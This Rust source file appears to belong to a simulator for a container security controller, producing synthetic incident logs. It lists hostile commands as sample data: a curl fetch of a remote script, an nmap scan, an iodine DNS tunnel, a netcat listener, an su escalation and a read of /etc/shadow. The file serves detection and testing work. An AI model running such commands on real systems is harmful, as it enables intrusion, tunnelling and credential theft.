//! Incidents: what should not run or be touched in a container, and how it is reported.

use controller_api::{mode::Mode, security_log::Incident};

use crate::{
    clock::rfc3339,
    fleet::{Part, Pod},
    world::World,
};

/// The reason that most incidents name: nothing in the profile allows it.
const NO_RULE: &str = "00000000-0000-0000-0000-000000000003";

/// A kind of incident: its name, what it says where it is logged and where it is blocked, how grave, the process
/// with its path and command line, the shop's service where it happens.
#[derive(Debug)]
pub(crate) struct Kind {
    name: &'static str,
    message: &'static str,
    level: &'static str,
    process: (&'static str, &'static str, &'static str),
    pub(crate) service: &'static str,
}

/// The kinds, as they were recorded. The last happens on nodes.
pub(crate) const KINDS: [Kind; 8] = [
    Kind {
        name: "Process.Profile.Violation",
        message: "Process profile violation",
        level: "Warning",
        process: ("curl", "/usr/bin/curl", "curl -s http://203.0.113.9/x.sh"),
        service: "report-job.batch",
    },
    Kind {
        name: "Process.Profile.Violation",
        message: "Process profile violation",
        level: "Warning",
        process: ("bash", "/bin/bash", "bash -c id"),
        service: "payment-worker.payments",
    },
    Kind {
        name: "Container.FileAccess.Violation",
        message: "File access violation",
        level: "Warning",
        process: ("cat", "/bin/cat", ""),
        service: "fraud-scoring.payments",
    },
    Kind {
        name: "Container.Privilege.Escalation",
        message: "Container.Privilege.Escalation",
        level: "Critical",
        process: ("su", "/bin/su", "su -"),
        service: "spark-worker.analytics",
    },
    Kind {
        name: "Container.Suspicious.Process",
        message: "NMAP process",
        level: "Warning",
        process: ("nmap", "/usr/bin/nmap", "nmap -sS 10.42.0.0/16"),
        service: "spark-worker.analytics",
    },
    Kind {
        name: "Container.Tunnel.Detected",
        message: "Container.Tunnel.Detected",
        level: "Warning",
        process: ("iodine", "/usr/sbin/iodine", ""),
        service: "report-job.batch",
    },
    Kind {
        name: "Container.Package.Updated",
        message: "Package modified: libssl3",
        level: "Warning",
        process: ("", "", ""),
        service: "mailer.storefront",
    },
    Kind {
        name: "Host.Process.Violation",
        message: "Host.Process.Violation",
        level: "Warning",
        process: ("nc", "/usr/bin/nc", "nc -lvp 4444"),
        service: "nodes",
    },
];

impl World {
    /// An incident in a pod's container, or on a node where there is no pod. `at` is in unix seconds.
    pub(crate) fn incident(&mut self, kind: &Kind, pod: Option<Pod>, at: i64) {
        let (id, count) = (self.rng.uuid(), 1 + u32::try_from(self.rng.below(4)).unwrap_or_default());
        let place = self.rng.index(self.fleet.nodes.len());
        let fleet = &self.fleet;
        let Some(node) = pod.as_ref().map(|pod| fleet.node_of(pod)).or_else(|| fleet.nodes.get(place)) else {
            return;
        };
        let service = pod.as_ref().map(|pod| fleet.service_of(pod));
        let group = service.map_or_else(|| "nodes".to_owned(), |service| service.group().to_owned());
        let mode = self.policy.truth().group(&group).and_then(|group| group.profile_mode);
        let is_profile = kind.name == "Process.Profile.Violation";
        let blocked = is_profile && mode == Some(Mode::Protect);
        let (name, path, command) = kind.process;
        let mut incident = Incident {
            id,
            name: kind.name.to_owned(),
            level: if blocked { "Critical" } else { kind.level }.to_owned(),
            reported_timestamp: at,
            reported_at: rfc3339(at),
            cluster_name: self.settings.truth().misc.cluster_name.clone(),
            host_id: node.id.clone(),
            host_name: node.name.clone(),
            enforcer_id: node.enforcer_id.clone(),
            enforcer_name: node.enforcer_name.clone(),
            proc_name: name.to_owned(),
            proc_path: path.to_owned(),
            proc_cmd: command.to_owned(),
            action: if blocked { "deny" } else { "violate" }.to_owned(),
            group,
            rule_id: NO_RULE.to_owned(),
            aggregation_from: Some(at - 5),
            count: Some(count),
            message: kind.message.to_owned() + if blocked { ": execution denied" } else { "" },
            ..Incident::default()
        };
        if let (Some(pod), Some(service)) = (&pod, service) {
            incident.workload_id = pod.id(Part::Container);
            incident.workload_name = fleet.pod_name(pod);
            incident.workload_domain.clone_from(&service.domain);
            incident.workload_image.clone_from(&service.image);
            incident.workload_service = service.full_name().to_owned();
        }
        detail(&mut incident, pod.as_ref().map(Pod::ip));
        self.logs.incident(incident);
    }
}

/// What only some kinds say.
fn detail(incident: &mut Incident, ip: Option<String>) {
    match incident.name.as_str() {
        "Process.Profile.Violation" => {
            "root".clone_into(&mut incident.proc_effective_user);
            "bash".clone_into(&mut incident.proc_parent_name);
            "/bin/bash".clone_into(&mut incident.proc_parent_path);
        }
        "Container.Privilege.Escalation" => {
            incident.proc_real_uid = Some(1000);
            "appuser".clone_into(&mut incident.proc_real_user);
            "root".clone_into(&mut incident.proc_effective_user);
        }
        "Container.FileAccess.Violation" => {
            "/etc/shadow".clone_into(&mut incident.file_path);
            incident.files = vec!["/etc/shadow".to_owned()];
        }
        "Container.Tunnel.Detected" => {
            incident.client_ip = ip.unwrap_or_default();
            "198.51.100.7".clone_into(&mut incident.server_ip);
            (incident.client_port, incident.server_port) = (Some(41_000), Some(53));
            (incident.server_conn_port, incident.ether_type, incident.ip_proto) =
                (Some(53), Some(2048), Some(17));
            for end in [
                &mut incident.remote_workload_id,
                &mut incident.remote_workload_name,
                &mut incident.remote_workload_service,
            ] {
                "external".clone_into(end);
            }
        }
        _ => {}
    }
}
